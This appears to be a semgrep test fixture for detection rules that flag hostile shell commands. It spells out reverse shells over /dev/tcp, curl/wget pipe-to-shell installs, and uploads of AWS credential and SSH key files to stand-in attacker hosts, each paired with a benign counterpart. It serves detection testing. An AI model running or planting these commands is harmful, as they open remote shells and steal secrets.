# ============================================================================
# TEST FIXTURE FOR semgrep --test. DO NOT RUN, SOURCE OR MAKE EXECUTABLE.
# Lines below are inert text that the rules in rules/shell-iocs.yml must
# (ruleid) or must not (ok) match. Hosts are reserved documentation ranges.
# ============================================================================
exit 0  # safety net in case someone runs this file anyway

# ruleid: bash-dev-tcp-reverse-shell
bash -i >& /dev/tcp/203.0.113.10/4444 0>&1
# ruleid: bash-dev-tcp-reverse-shell
sh -i >& /dev/tcp/c2.attacker.example/9001 0>&1
# ok: bash-dev-tcp-reverse-shell
exec 3<>/dev/tcp/localhost/8080   # health probe to local service, not interactive

# ruleid: curl-pipe-shell
curl -fsSL https://get.installer.example/install.sh | sh
# ruleid: curl-pipe-shell
wget -qO- https://203.0.113.20/setup | sh
# ok: curl-pipe-shell
curl -fsSLo install.sh https://get.installer.example/install.sh && sha256sum -c install.sh.sha256

# ruleid: credential-file-upload
curl -s -X POST --data-binary @$HOME/.aws/credentials https://collect.attacker.example/u
# ruleid: credential-file-upload
curl -T ~/.ssh/id_ed25519 ftp://203.0.113.30/drop/
# ok: credential-file-upload
curl -s --data-binary @build/report.json https://ci-dashboard.example/api/reports

# placeholder secret used by the allowlist test — not a real key
AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE
